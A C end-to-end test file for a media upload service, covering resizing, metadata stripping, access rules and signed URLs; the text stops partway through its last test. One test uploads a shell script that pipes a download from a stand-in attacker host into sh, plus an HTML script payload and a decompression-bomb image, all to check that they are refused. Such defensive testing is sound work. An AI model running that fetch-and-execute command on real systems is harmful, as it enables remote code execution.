/* The media service through the gateway, with images made here by libvips: JPEG, PNG and
 * WebP uploads resized to 1280 and 320 without enlarging; EXIF with GPS, orientation and
 * comments gone from what is served; foreign, broken, oversized and mislabelled bodies
 * refused with the documented codes; who may upload for which purpose; public files served by
 * nginx with a year's immutable cache; private files only with a valid, unexpired signature
 * for that id (or the uploader's or an admin's token), through X-Accel-Redirect; the resolve
 * call other services make; the row in MariaDB and the two content-addressed files on disk;
 * an image whose decoder crashes is refused with 422 and writes nothing. */
#include "harness.h"
#include "../fixtures/jpegmeta.h"
#include "dates.h"
#include "mediaurl.h"

#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ftw.h>
#include <sys/stat.h>
#include <vips/vips.h>

static struct e2e_user owner, owner2, provider, pending, admin;

struct blob {
    void *buf;
    size_t len;
};

static void blob_free(struct blob *b)
{
    g_free(b->buf);
    b->buf = NULL;
}

/* ---------- images ---------- */

/* A smooth w × h RGB gradient (compresses well). */
static VipsImage *gradient(int w, int h)
{
    VipsImage *xyz = NULL, *x = NULL, *y = NULL, *b[3] = {NULL, NULL, NULL}, *out = NULL;
    if (vips_xyz(&xyz, w, h, NULL) || vips_extract_band(xyz, &x, 0, NULL) || vips_extract_band(xyz, &y, 1, NULL) ||
        vips_linear1(x, &b[0], 255.0 / w, 0, "uchar", TRUE, NULL) ||
        vips_linear1(y, &b[1], 255.0 / h, 0, "uchar", TRUE, NULL) ||
        vips_linear1(x, &b[2], -255.0 / w, 255, "uchar", TRUE, NULL) || vips_bandjoin(b, &out, 3, NULL))
        fail_msg("libvips: %s", vips_error_buffer());
    for (int i = 0; i < 3; i++)
        g_object_unref(b[i]);
    g_object_unref(x);
    g_object_unref(y);
    g_object_unref(xyz);
    return out;
}

static struct blob save(VipsImage *im, const char *fmt)
{
    struct blob o = {0};
    int rc = strcmp(fmt, "jpeg") == 0  ? vips_jpegsave_buffer(im, &o.buf, &o.len, "Q", 90, "strip", TRUE, NULL)
             : strcmp(fmt, "png") == 0 ? vips_pngsave_buffer(im, &o.buf, &o.len, NULL)
                                       : vips_webpsave_buffer(im, &o.buf, &o.len, NULL);
    if (rc)
        fail_msg("libvips: %s", vips_error_buffer());
    return o;
}

static struct blob image(int w, int h, const char *fmt)
{
    VipsImage *im = gradient(w, h);
    struct blob o = save(im, fmt);
    g_object_unref(im);
    return o;
}

/* A PNG of w × h pixels of RGB noise, stored uncompressed: about 3 w h bytes. */
static struct blob noisy_png(int w, int h)
{
    VipsImage *n = NULL, *u = NULL, *rgb = NULL;
    struct blob o = {0};
    if (vips_gaussnoise(&n, w, h, "sigma", 60.0, "mean", 128.0, NULL) || vips_cast_uchar(n, &u, NULL) ||
        vips_bandjoin((VipsImage *[]){u, u, u}, &rgb, 3, NULL) ||
        vips_pngsave_buffer(rgb, &o.buf, &o.len, "compression", 0, NULL))
        fail_msg("libvips: %s", vips_error_buffer());
    g_object_unref(rgb);
    g_object_unref(u);
    g_object_unref(n);
    return o;
}

/* Decode a served JPEG; its width and height. */
static void jpeg_size(const struct resp *r, int *w, int *h)
{
    VipsImage *im = NULL;
    if (!r->body || vips_jpegload_buffer(r->body, r->len, &im, NULL))
        fail_msg("the body is not a JPEG (%zu bytes): %s", r->len, vips_error_buffer());
    *w = vips_image_get_width(im);
    *h = vips_image_get_height(im);
    g_object_unref(im);
}

/* ---------- calls ---------- */

/* Upload (201 expected) and return the answer. */
static struct resp *upload_ok(const struct e2e_user *u, const char *purpose, const char *ctype, const struct blob *b)
{
    struct resp *r = e2e_upload(u, purpose, ctype, b->buf, b->len);
    EXPECT_STATUS(r, 201);
    return r;
}

static struct resp *get(const char *path, const char *token)
{
    return e2e_call_raw("GET", path, token, NULL, NULL, 0, NULL);
}

/* The SHA-256 of a body in hex (65 bytes). */
static void sha256_hex(const struct resp *r, char *out)
{
    unsigned char h[crypto_hash_sha256_BYTES];
    crypto_hash_sha256(h, (const unsigned char *)r->body, r->len);
    sodium_bin2hex(out, 65, h, sizeof h);
}

static bool media_file_exists(const char *vis, const char *sha, int size)
{
    char path[1024];
    struct stat st;
    snprintf(path, sizeof path, "%s/media/%s/%.2s/%s_%d.jpg", getenv("PB_HOME"), vis, sha, sha, size);
    return stat(path, &st) == 0 && S_ISREG(st.st_mode) && st.st_size > 0;
}

static int g_nfiles;

static int count_file(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
    (void)path;
    (void)st;
    (void)ftw;
    if (flag == FTW_F)
        g_nfiles++;
    return 0;
}

/* The files under the media folder: both visibilities and the temporary ones. */
static int media_files(void)
{
    char path[1024];
    snprintf(path, sizeof path, "%s/media", getenv("PB_HOME"));
    g_nfiles = 0;
    assert_int_equal(nftw(path, count_file, 16, FTW_PHYS), 0);
    return g_nfiles;
}

/* A private file path signed with exp as given (the key derived here from the stack's token). */
static void signed_path(char *buf, size_t cap, const char *id, int size, long long exp)
{
    uint64_t n = strtoull(id, NULL, 10);
    char sig[MEDIAURL_SIG_LEN + 1];
    assert_true(mediaurl_sign(n, exp, sig));
    snprintf(buf, cap, "/media/p/%s/%d?exp=%lld&sig=%s", id, size, exp, sig);
}

static int setup(void **state)
{
    (void)state;
    if (VIPS_INIT("e2e_media") || sodium_init() < 0)
        return -1;
    vips_cache_set_max(0);
    char *token = e2e_home_file("secrets/internal-token");
    bool keyed = mediaurl_init(token);
    free(token);
    if (!keyed)
        return -1;
    e2e_user_new(&owner, "owner");
    e2e_user_new(&owner2, "owner");
    e2e_provider_approved(&provider);
    e2e_user_new(&pending, "provider"); /* not approved: pending_review */
    e2e_admin(&admin);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    vips_shutdown();
    return 0;
}

/* ---------- uploads ---------- */

/* A 3000×2000 JPEG: 201 with the documented body; the row, both files, and the two served
 * versions are 1280 and 320 wide. */
static void jpeg_upload_is_resized_and_stored(void **state)
{
    (void)state;
    struct blob b = image(3000, 2000, "jpeg");
    struct resp *r = upload_ok(&owner, "pet", "image/jpeg", &b);
    const char *id = e2e_str(r, "id");
    char loc[96];
    snprintf(loc, sizeof loc, "/api/v1/media/%s", id);
    assert_string_equal(r->location, loc);
    assert_string_equal(e2e_str(r, "purpose"), "pet");
    assert_string_equal(e2e_str(r, "visibility"), "private");
    assert_int_equal(e2e_int(r, "width"), 1280);
    assert_int_equal(e2e_int(r, "height"), 853);
    assert_non_null(e2e_str(r, "created_at"));
    const char *url = e2e_str(r, "url"), *thumb = e2e_str(r, "thumb_url");
    char want[96];
    snprintf(want, sizeof want, "/media/p/%s/1280?exp=", id);
    assert_int_equal(strncmp(url, want, strlen(want)), 0);
    snprintf(want, sizeof want, "/media/p/%s/320?exp=", id);
    assert_int_equal(strncmp(thumb, want, strlen(want)), 0);

    struct resp *big = get(url, NULL), *small = get(thumb, NULL);
    EXPECT_STATUS(big, 200);
    EXPECT_STATUS(small, 200);
    assert_string_equal(big->content_type, "image/jpeg");
    assert_string_equal(big->content_type_options, "nosniff");
    assert_int_equal(strncmp(big->cache_control, "private", 7), 0);
    int w, h;
    jpeg_size(big, &w, &h);
    assert_int_equal(w, 1280);
    assert_int_equal(h, 853);
    jpeg_size(small, &w, &h);
    assert_int_equal(w, 320);
    assert_int_equal(h, 213);

    /* the row, named by the hash of what is served, and the two files under it */
    char sha[65];
    sha256_hex(big, sha);
    assert_int_equal(e2e_db_int("SELECT COUNT(*) FROM pb_media.media WHERE id = ? AND owner_id = ? AND purpose = 'pet' "
                                "AND visibility = 'private' AND sha256 = ? AND format = 'jpeg' AND src_width = 3000 "
                                "AND src_height = 2000 AND width = 1280 AND thumb_width = 320 AND upload_bytes = ?",
                                "sssi", id, owner.id, sha, (int64_t)b.len),
                     1);
    assert_true(media_file_exists("private", sha, 1280));
    assert_true(media_file_exists("private", sha, 320));
    assert_false(media_file_exists("public", sha, 1280));
    e2e_resp_free(small);
    e2e_resp_free(big);
    e2e_resp_free(r);
    blob_free(&b);
}

/* PNG and WebP (declared as application/octet-stream too); a 200×100 image is not enlarged. */
static void png_and_webp_never_upscaled(void **state)
{
    (void)state;
    struct blob png = image(200, 100, "png"), webp = image(640, 480, "webp");
    struct resp *r = upload_ok(&owner, "pet", "image/png", &png);
    assert_int_equal(e2e_int(r, "width"), 200);
    assert_int_equal(e2e_int(r, "height"), 100);
    struct resp *f = get(e2e_str(r, "url"), NULL), *t = get(e2e_str(r, "thumb_url"), NULL);
    int w, h;
    jpeg_size(f, &w, &h);
    assert_int_equal(w, 200);
    assert_int_equal(h, 100);
    jpeg_size(t, &w, &h);
    assert_int_equal(w, 200);
    e2e_resp_free(t);
    e2e_resp_free(f);
    e2e_resp_free(r);

    r = upload_ok(&owner, "pet", "image/webp", &webp);
    assert_int_equal(e2e_int(r, "width"), 640);
    t = get(e2e_str(r, "thumb_url"), NULL);
    jpeg_size(t, &w, &h);
    assert_int_equal(w, 320);
    assert_int_equal(h, 240);
    e2e_resp_free(t);
    e2e_resp_free(r);
    /* the declared type is only a hint: the bytes decide */
    r = upload_ok(&owner, "pet", "application/octet-stream", &webp);
    e2e_resp_free(r);
    r = upload_ok(&owner, "pet", "image/jpeg; charset=binary", &png);
    e2e_resp_free(r);
    blob_free(&webp);
    blob_free(&png);
    /* the harness's PNG, made without libvips (what the other suites attach), is a valid one */
    size_t n = 0;
    unsigned char *small = e2e_png(48, 32, 7, &n);
    r = e2e_upload(&owner, "pet", "image/png", small, n);
    EXPECT_STATUS(r, 201);
    assert_int_equal(e2e_int(r, "width"), 48);
    assert_int_equal(e2e_int(r, "height"), 32);
    e2e_expect_photo(r->json, e2e_str(r, "id"));
    e2e_resp_free(r);
    free(small);
}

/* A JPEG with Exif (orientation 6 and a GPS position) and a comment: both served versions
 * carry no metadata block at all, and the picture was turned upright. */
static void exif_and_gps_are_stripped(void **state)
{
    (void)state;
    struct blob base = image(300, 200, "jpeg");
    unsigned char exif[JM_EXIF_LEN], com[64];
    size_t n1, n2;
    jm_exif_app1(6, exif);
    unsigned char *tmp = jm_insert(base.buf, base.len, exif, sizeof exif, &n1);
    size_t clen = jm_comment("home: 12 Example Road", com, sizeof com);
    assert_true(clen > 0);
    unsigned char *in = jm_insert(tmp, n1, com, clen, &n2);
    struct jm_markers m;
    assert_true(jm_scan(in, n2, &m) && m.app1 == 1 && m.com == 1);

    for (int k = 0; k < 2; k++) { /* private (pet) and public (listing) */
        struct resp *r = e2e_upload(k ? &provider : &owner, k ? "listing" : "pet", "image/jpeg", in, n2);
        EXPECT_STATUS(r, 201);
        assert_int_equal(e2e_int(r, "width"), 200);
        assert_int_equal(e2e_int(r, "height"), 300);
        const char *urls[] = {e2e_str(r, "url"), e2e_str(r, "thumb_url")};
        for (int u = 0; u < 2; u++) {
            struct resp *f = get(urls[u], NULL);
            EXPECT_STATUS(f, 200);
            const unsigned char *b = (const unsigned char *)f->body;
            assert_true(jm_scan(b, f->len, &m));
            if (m.app1 + m.app2 + m.app13 + m.other_app + m.com != 0)
                fail_msg("%s still has metadata: APP1 %d APP2 %d APP13 %d other %d COM %d", urls[u], m.app1, m.app2,
                         m.app13, m.other_app, m.com);
            assert_false(jm_contains(b, f->len, "Exif"));
            assert_false(jm_contains(b, f->len, "Example Road"));
            VipsImage *im = NULL;
            assert_int_equal(vips_jpegload_buffer(f->body, f->len, &im, NULL), 0);
            assert_int_equal(vips_image_get_typeof(im, "exif-data"), 0);
            assert_int_equal(vips_image_get_typeof(im, "exif-ifd3-GPSLatitude"), 0);
            assert_int_equal(vips_image_get_typeof(im, VIPS_META_ICC_NAME), 0);
            assert_true(vips_image_get_height(im) > vips_image_get_width(im)); /* upright */
            g_object_unref(im);
            e2e_resp_free(f);
        }
        e2e_resp_free(r);
    }
    free(in);
    free(tmp);
    blob_free(&base);
}

/* Bodies that are not acceptable images, with the codes of the contract. */
static void bad_bodies_are_refused(void **state)
{
    (void)state;
    static const char script[] = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
    struct resp *r = e2e_upload(&owner, "pet", "image/jpeg", script, sizeof script - 1);
    EXPECT_ERROR(r, 415, "unsupported_media_type");
    e2e_resp_free(r);
    static const char html[] = "<html><script>alert(1)</script></html>";
    r = e2e_upload(&owner, "pet", "image/png", html, sizeof html - 1);
    EXPECT_ERROR(r, 415, "unsupported_media_type");
    e2e_resp_free(r);

    /* a declared type outside the list, whatever the bytes */
    struct blob jpg = image(64, 64, "jpeg");
    const char *types[] = {"image/gif", "text/plain", "multipart/form-data; boundary=x", "application/json", NULL};
    for (int i = 0; i < 5; i++) {
        r = e2e_upload(&owner, "pet", types[i], jpg.buf, jpg.len);
        EXPECT_ERROR(r, 415, "unsupported_media_type");
        e2e_resp_free(r);
    }

    /* a PNG signature followed by garbage; a truncated JPEG; an empty body */
    unsigned char junk[2048];
    memcpy(junk, "\x89PNG\r\n\x1a\n", 8);
    for (size_t i = 8; i < sizeof junk; i++)
        junk[i] = (unsigned char)(i * 131 + 7);
    r = e2e_upload(&owner, "pet", "image/png", junk, sizeof junk);
    EXPECT_ERROR(r, 422, "validation_failed");
    assert_non_null(e2e_field_error(r, "file"));
    e2e_resp_free(r);
    struct blob big = image(800, 600, "jpeg");
    r = e2e_upload(&owner, "pet", "image/jpeg", big.buf, big.len / 2);
    EXPECT_ERROR(r, 422, "validation_failed");
    assert_non_null(e2e_field_error(r, "file"));
    e2e_resp_free(r);
    r = e2e_upload(&owner, "pet", "image/jpeg", "", 0);
    EXPECT_ERROR(r, 422, "validation_failed");
    assert_non_null(e2e_field_error(r, "file"));
    e2e_resp_free(r);

    /* sides and pixel count, from the header */
    struct blob tiny = image(15, 40, "png"), wide = image(10001, 16, "png");
    VipsImage *black = NULL;
    assert_int_equal(vips_black(&black, 6400, 6400, NULL), 0); /* 40.96 megapixels in ~150 kB */
    struct blob bomb = save(black, "png");
    g_object_unref(black);
    struct blob *refused[] = {&tiny, &wide, &bomb};
    const char *says[] = {"at least 16", "at most 10000", "megapixels"};
    for (int i = 0; i < 3; i++) {
        r = e2e_upload(&owner, "pet", "image/png", refused[i]->buf, refused[i]->len);
        EXPECT_ERROR(r, 422, "validation_failed");
        const char *why = e2e_field_error(r, "file");
        if (!why || !strstr(why, says[i]))
            fail_msg("expected fields.file to say \"%s\": %s", says[i], r->body);
        e2e_resp_free(r);
    }
    blob_free(&bomb);
    blob_free(&wide);
    blob_free(&tiny);
    blob_free(&big);
    blob_free(&jpg);
}

/* Over 8 MiB: the gateway answers 413 with the JSON error body (and so does the service
 * itself); just under it, a large noisy PNG is accepted. */
static void size_limit(void **state)
{
    (void)state;
    size_t n = 9 * 1000 * 1000;
    char *body = malloc(n);
    assert_non_null(body);
    memset(body, 0xAB, n);
    memcpy(body, "\xFF\xD8\xFF\xE0", 4);
    struct resp *r = e2e_upload(&owner, "pet", "image/jpeg", body, n);
    EXPECT_ERROR(r, 413, "payload_too_large");
    assert_non_null(strstr(e2e_str(r, "error.message"), "8 MiB"));
    e2e_resp_free(r);
    r = e2e_service_raw("media", "POST", "/api/v1/media?purpose=pet", owner.token, "image/jpeg", body, (8 << 20) + 1,
                        false);
    EXPECT_ERROR(r, 413, "payload_too_large");
    e2e_resp_free(r);
    free(body);
    /* other endpoints keep their 1 MiB limit, and say so */
    char *json = malloc(1100 * 1000);
    assert_non_null(json);
    memset(json, ' ', 1100 * 1000);
    r = e2e_call_raw("POST", "/api/v1/pets", owner.token, "application/json", json, 1100 * 1000, NULL);
    EXPECT_ERROR(r, 413, "payload_too_large");
    assert_non_null(strstr(e2e_str(r, "error.message"), "1 MiB"));
    e2e_resp_free(r);
    free(json);

    struct blob png = noisy_png(1660, 1660);
    if (png.len < 8000000 || png.len > (8u << 20))
        fail_msg("the noisy PNG is %zu bytes, meant to be just under 8 MiB", png.len);
    r = upload_ok(&owner, "pet", "image/png", &png);
    assert_int_equal(e2e_int(r, "width"), 1280);
    assert_int_equal(e2e_int(r, "height"), 1280);
    e2e_resp_free(r);
    blob_free(&png);
}

/* Who may upload for which purpose. */
static void roles_and_purposes(void **state)
{
    (void)state;
    struct blob b = image(64, 48, "jpeg");
    struct resp *r = e2e_upload(NULL, "pet", "image/jpeg", b.buf, b.len);
    EXPECT_ERROR(r, 401, "unauthenticated");
    e2e_resp_free(r);
    struct {
        const struct e2e_user *u;
        const char *purpose;
        long status;
    } cases[] = {
        {&owner, "listing", 403},         {&owner, "care_log", 403},      {&owner, "verification", 403},
        {&provider, "pet", 403},          {&admin, "pet", 403},           {&admin, "listing", 403},
        {&pending, "listing", 403},       {&pending, "care_log", 403},    {&pending, "verification", 201},
        {&provider, "verification", 201}, {&provider, "care_log", 201},   {&provider, "listing", 201},
        {&owner, "pet", 201},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        r = e2e_upload(cases[i].u, cases[i].purpose, "image/jpeg", b.buf, b.len);
        if (r->status != cases[i].status)
            fail_msg("%s uploading for %s: expected %ld, got %ld %s", cases[i].u->role, cases[i].purpose,
                     cases[i].status, r->status, r->body ? r->body : "");
        if (cases[i].status == 403)
            EXPECT_ERROR(r, 403, "forbidden");
        else
            assert_string_equal(e2e_str(r, "visibility"), strcmp(cases[i].purpose, "listing") ? "private" : "public");
        e2e_resp_free(r);
    }
    const char *bad[] = {"/api/v1/media", "/api/v1/media?purpose=avatar", "/api/v1/media?purpose=", NULL};
    for (int i = 0; bad[i]; i++) {
        r = e2e_call_raw("POST", bad[i], owner.token, "image/jpeg", b.buf, b.len, NULL);
        EXPECT_ERROR(r, 422, "validation_failed");
        assert_non_null(e2e_field_error(r, "purpose"));
        e2e_resp_free(r);
    }
    blob_free(&b);
}

/* The same image uploaded at once by several requests: every upload is its own row, all
 * share one pair of files (named by their content, written atomically). */
struct same_ctx {
    struct blob b;
    char ids[4][24];
    long status[4];
};

static void upload_same(int i, void *arg)
{
    struct same_ctx *x = arg;
    struct resp *r = e2e_upload(&owner2, "pet", "image/jpeg", x->b.buf, x->b.len);
    x->status[i] = r->status;
    snprintf(x->ids[i], sizeof x->ids[i], "%s", e2e_str(r, "id") ? e2e_str(r, "id") : "");
    e2e_resp_free(r);
}

static void concurrent_identical_uploads(void **state)
{
    (void)state;
    struct same_ctx x = {.b = image(900, 700, "jpeg")};
    e2e_parallel(4, upload_same, &x);
    for (int i = 0; i < 4; i++)
        assert_int_equal(x.status[i], 201);
    assert_int_equal(e2e_db_int("SELECT COUNT(DISTINCT id) FROM pb_media.media WHERE id IN (?, ?, ?, ?)", "ssss",
                                x.ids[0], x.ids[1], x.ids[2], x.ids[3]),
                     4);
    assert_int_equal(e2e_db_int("SELECT COUNT(DISTINCT sha256) FROM pb_media.media WHERE id IN (?, ?, ?, ?)", "ssss",
                                x.ids[0], x.ids[1], x.ids[2], x.ids[3]),
                     1);
    blob_free(&x.b);
}

/* ---------- serving ---------- */

/* A listing photo: public URLs that nginx serves with a year's immutable cache. */
static void public_files(void **state)
{
    (void)state;
    struct blob b = image(1600, 1200, "jpeg");
    struct resp *r = upload_ok(&provider, "listing", "image/jpeg", &b);
    assert_string_equal(e2e_str(r, "visibility"), "public");
    const char *url = e2e_str(r, "url"), *thumb = e2e_str(r, "thumb_url");
    assert_int_equal(strncmp(url, "/media/pub/", 11), 0);
    char sha[65];
    snprintf(sha, sizeof sha, "%.64s", url + 14); /* /media/pub/xx/<sha>_1280.jpg */
    char want[160];
    snprintf(want, sizeof want, "/media/pub/%.2s/%s_1280.jpg", sha, sha);
    assert_string_equal(url, want);
    snprintf(want, sizeof want, "/media/pub/%.2s/%s_320.jpg", sha, sha);
    assert_string_equal(thumb, want);

    struct resp *f = get(url, NULL);
    EXPECT_STATUS(f, 200);
    assert_string_equal(f->content_type, "image/jpeg");
    assert_string_equal(f->cache_control, "public, max-age=31536000, immutable");
    assert_string_equal(f->content_type_options, "nosniff");
    char got[65];
    sha256_hex(f, got);
    assert_string_equal(got, sha); /* the name is the content's hash */
    int w, h;
    jpeg_size(f, &w, &h);
    assert_int_equal(w, 1280);
    e2e_resp_free(f);
    assert_true(media_file_exists("public", sha, 1280) && media_file_exists("public", sha, 320));

    /* nothing else under /media/pub/: not the private folder, not a listing, no other name */
    snprintf(want, sizeof want, "/media/pub/%.2s/%s_640.jpg", sha, sha);
    const char *missing[] = {want, "/media/pub/", "/media/pub/00/", "/media/pub/../private/x.jpg",
                             "/_media/private/00/x_1280.jpg", "/media/p/", NULL};
    for (int i = 0; missing[i]; i++) {
        f = get(missing[i], NULL);
        EXPECT_ERROR(f, 404, "not_found");
        assert_true(f->cache_control[0] == 0);
        e2e_resp_free(f);
    }
    /* a public photo has no private URL */
    char path[256];
    signed_path(path, sizeof path, e2e_str(r, "id"), 1280, mediaurl_expiry(time_now_ms() / 1000));
    f = get(path, NULL);
    EXPECT_ERROR(f, 404, "not_found");
    e2e_resp_free(f);
    e2e_resp_free(r);
    blob_free(&b);
}

/* Private files: only with a valid signature for that id that has not expired, or the token
 * of the uploader or an admin; everything else is the same 404. */
static void private_files(void **state)
{
    (void)state;
    struct blob b = image(400, 300, "png");
    struct resp *r = upload_ok(&owner, "pet", "image/png", &b), *other = upload_ok(&owner2, "pet", "image/png", &b);
    const char *id = e2e_str(r, "id"), *other_id = e2e_str(other, "id");
    struct resp *f = get(e2e_str(r, "url"), NULL);
    EXPECT_STATUS(f, 200);
    assert_string_equal(f->content_type, "image/jpeg");
    assert_string_equal(f->content_type_options, "nosniff");
    long max_age = -1;
    assert_int_equal(sscanf(f->cache_control, "private, max-age=%ld", &max_age), 1);
    assert_true(max_age > 0 && max_age <= 7200);
    e2e_resp_free(f);

    long long now = time_now_ms() / 1000, exp = mediaurl_expiry(now);
    char path[256], sig[MEDIAURL_SIG_LEN + 1], p2[300];
    signed_path(path, sizeof path, id, 320, exp);
    f = get(path, NULL);
    EXPECT_STATUS(f, 200);
    e2e_resp_free(f);

    const char *refused[8];
    char bufs[8][300];
    int n = 0;
    snprintf(bufs[n], sizeof bufs[n], "/media/p/%s/1280", id); /* no signature */
    refused[n] = bufs[n], n++;
    snprintf(bufs[n], sizeof bufs[n], "/media/p/%s/1280?exp=%lld", id, exp);
    refused[n] = bufs[n], n++;
    assert_true(mediaurl_sign(strtoull(id, NULL, 10), exp, sig));
    sig[5] = sig[5] == 'A' ? 'B' : 'A'; /* tampered */
    snprintf(bufs[n], sizeof bufs[n], "/media/p/%s/1280?exp=%lld&sig=%s", id, exp, sig);
    refused[n] = bufs[n], n++;
    assert_true(mediaurl_sign(strtoull(id, NULL, 10), exp, sig)); /* another exp than signed */
    snprintf(bufs[n], sizeof bufs[n], "/media/p/%s/1280?exp=%lld&sig=%s", id, exp + 3600, sig);
    refused[n] = bufs[n], n++;
    signed_path(p2, sizeof p2, other_id, 1280, exp); /* signed for another id */
    snprintf(bufs[n], sizeof bufs[n], "/media/p/%s/1280%s", id, strchr(p2, '?'));
    refused[n] = bufs[n], n++;
    signed_path(bufs[n], sizeof bufs[n], id, 1280, now - 1); /* expired */
    refused[n] = bufs[n], n++;
    signed_path(bufs[n], sizeof bufs[n], id, 640, exp); /* no such size */
    refused[n] = bufs[n], n++;
    signed_path(bufs[n], sizeof bufs[n], "999999999999999999", 1280, exp); /* no such photo */
    refused[n] = bufs[n], n++;
    for (int i = 0; i < n; i++) {
        f = get(refused[i], NULL);
        if (f->status != 404)
            fail_msg("%s: expected 404, got %ld", refused[i], f->status);
        EXPECT_ERROR(f, 404, "not_found");
        e2e_resp_free(f);
    }

    /* by token: the uploader and an admin, not another owner, not a bad token */
    snprintf(p2, sizeof p2, "/media/p/%s/1280", id);
    const char *tokens[] = {owner.token, admin.token, owner2.token, "not-a-token"};
    long want[] = {200, 200, 404, 404};
    for (int i = 0; i < 4; i++) {
        f = get(p2, tokens[i]);
        EXPECT_STATUS(f, want[i]);
        if (want[i] == 200)
            assert_string_equal(f->cache_control, "private, no-cache");
        e2e_resp_free(f);
    }
    e2e_resp_free(other);
    e2e_resp_free(r);
    blob_free(&b);
}

/* GET /api/v1/media/{id}: the uploader and admins; nobody else learns it exists. */
static void describe_upload(void **state)
{
    (void)state;
    struct blob b = image(120, 90, "webp");
    struct resp *up = upload_ok(&owner, "pet", "image/webp", &b);
    char path[96];
    snprintf(path, sizeof path, "/api/v1/media/%s", e2e_str(up, "id"));
    const char *tokens[] = {owner.token, admin.token, owner2.token, provider.token, NULL};
    long want[] = {200, 200, 404, 404, 401};
    for (int i = 0; i < 5; i++) {
        struct resp *r = e2e_call("GET", path, tokens[i], NULL);
        EXPECT_STATUS(r, want[i]);
        if (want[i] == 200) {
            assert_string_equal(e2e_str(r, "id"), e2e_str(up, "id"));
            assert_string_equal(e2e_str(r, "purpose"), "pet");
            assert_string_equal(e2e_str(r, "visibility"), "private");
            assert_int_equal(e2e_int(r, "width"), 120);
            assert_string_equal(e2e_str(r, "created_at"), e2e_str(up, "created_at"));
            struct resp *f = get(e2e_str(r, "thumb_url"), NULL);
            EXPECT_STATUS(f, 200);
            e2e_resp_free(f);
        } else {
            EXPECT_ERROR(r, want[i], want[i] == 401 ? "unauthenticated" : "not_found");
        }
        e2e_resp_free(r);
    }
    struct resp *r = e2e_call("GET", "/api/v1/media/0x12", owner.token, NULL);
    EXPECT_ERROR(r, 404, "not_found");
    e2e_resp_free(r);
    r = e2e_call("GET", "/api/v1/media/999999999999999999", admin.token, NULL);
    EXPECT_ERROR(r, 404, "not_found");
    e2e_resp_free(r);
    e2e_resp_free(up);
    blob_free(&b);
}

/* ---------- resolve (service to service) ---------- */

static struct resp *resolve(const char *owner_id, const char *purpose, json_t *ids)
{
    return e2e_service("media", "POST", "/internal/v1/media/resolve",
                       json_pack("{s:s,s:s,s:o}", "owner_id", owner_id, "purpose", purpose, "ids", ids));
}

static void resolve_ids(void **state)
{
    (void)state;
    struct blob b = image(100, 100, "jpeg");
    struct resp *p1 = upload_ok(&owner, "pet", "image/jpeg", &b), *p2 = upload_ok(&owner, "pet", "image/jpeg", &b);
    struct resp *mine_other = upload_ok(&owner, "pet", "image/jpeg", &b);
    struct resp *theirs = upload_ok(&owner2, "pet", "image/jpeg", &b);
    struct resp *listing = upload_ok(&provider, "listing", "image/jpeg", &b);
    const char *a = e2e_str(p1, "id"), *c = e2e_str(p2, "id");

    /* in the order given, with fresh signed URLs that work */
    struct resp *r = resolve(owner.id, "pet", json_pack("[s,s]", c, a));
    EXPECT_STATUS(r, 200);
    assert_int_equal(json_array_size(e2e_get(r, "items")), 2);
    assert_string_equal(e2e_str(r, "items.0.id"), c);
    assert_string_equal(e2e_str(r, "items.1.id"), a);
    assert_string_equal(e2e_str(r, "items.0.visibility"), "private");
    struct resp *f = get(e2e_str(r, "items.1.thumb_url"), NULL);
    EXPECT_STATUS(f, 200);
    e2e_resp_free(f);
    e2e_resp_free(r);
    r = resolve(provider.id, "listing", json_pack("[s]", e2e_str(listing, "id")));
    EXPECT_STATUS(r, 200);
    assert_string_equal(e2e_str(r, "items.0.visibility"), "public");
    assert_string_equal(e2e_str(r, "items.0.url"), e2e_str(listing, "url"));
    e2e_resp_free(r);
    r = resolve(owner.id, "pet", json_array());
    EXPECT_STATUS(r, 200);
    assert_int_equal(json_array_size(e2e_get(r, "items")), 0);
    e2e_resp_free(r);

    /* another owner's id, an id of another purpose, an unknown id: each named */
    r = resolve(owner.id, "pet", json_pack("[s,s,s,s]", a, e2e_str(theirs, "id"), "999999999999999999",
                                           e2e_str(listing, "id")));
    EXPECT_ERROR(r, 422, "validation_failed");
    assert_null(e2e_field_error(r, "ids.0"));
    assert_non_null(e2e_field_error(r, "ids.1"));
    assert_non_null(e2e_field_error(r, "ids.2"));
    assert_non_null(e2e_field_error(r, "ids.3"));
    assert_null(e2e_get(r, "items"));
    e2e_resp_free(r);
    r = resolve(owner.id, "care_log", json_pack("[s]", e2e_str(mine_other, "id")));
    EXPECT_ERROR(r, 422, "validation_failed");
    assert_non_null(strstr(e2e_field_error(r, "ids.0"), "pet"));
    e2e_resp_free(r);

    /* shape: at most 20 distinct ids, a known purpose */
    json_t *many = json_array();
    for (int i = 0; i < 21; i++) {
        char id[24];
        snprintf(id, sizeof id, "%d", 1000 + i);
        json_array_append_new(many, json_string(id));
    }
    r = resolve(owner.id, "pet", many);
    EXPECT_ERROR(r, 422, "validation_failed");
    assert_non_null(e2e_field_error(r, "ids"));
    e2e_resp_free(r);
    r = resolve(owner.id, "avatar", json_pack("[s]", a));
    EXPECT_ERROR(r, 422, "validation_failed");
    assert_non_null(e2e_field_error(r, "purpose"));
    e2e_resp_free(r);

    /* internal only: without the service token 403 at the service, and the gateway does not
     * route it at all */
    r = e2e_service_raw("media", "POST", "/internal/v1/media/resolve", NULL, "application/json", "{}", 2, false);
    EXPECT_ERROR(r, 403, "forbidden");
    e2e_resp_free(r);
    r = e2e_call("POST", "/internal/v1/media/resolve", NULL, json_pack("{s:s,s:s,s:[]}", "owner_id", owner.id,
                                                                       "purpose", "pet", "ids"));
    EXPECT_ERROR(r, 404, "not_found");
    e2e_resp_free(r);
    e2e_resp_free(listing);
    e2e_resp_free(theirs);
    e2e_resp_free(mine_other);
    e2e_resp_free(p2);
    e2e_resp_free(p1);
    blob_free(&b);
}

/* The image decoder runs in a process of its own (pb-media-convert): when it dies on an upload
 * (here a stand-in converter that reads the bytes and dies of SIGSEGV, as a decoder fault
 * would) that upload is refused with 422 fields.file, nothing is written (no row, no file)
 * and the service answers the next request; with the real converter back, the same bytes
 * are stored. */
static void a_decoder_crash_is_a_422_that_writes_nothing(void **state)
{
    (void)state;
    static const char *const CRASH_ENV[] = {"PB_MEDIA_CONVERTER=" PB_REPO_DIR "/tests/fixtures/convert-crash.sh", NULL};
    struct blob b = image(300, 200, "jpeg");
